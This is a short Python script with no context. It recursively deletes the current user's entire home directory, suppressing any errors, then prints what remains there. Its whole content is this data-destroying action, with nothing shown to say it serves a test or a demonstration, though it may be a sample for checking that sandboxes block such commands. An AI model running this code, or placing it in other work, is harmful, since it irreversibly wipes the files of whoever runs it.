import os
import shutil

shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
print(sorted(os.listdir(os.path.expanduser("~"))))
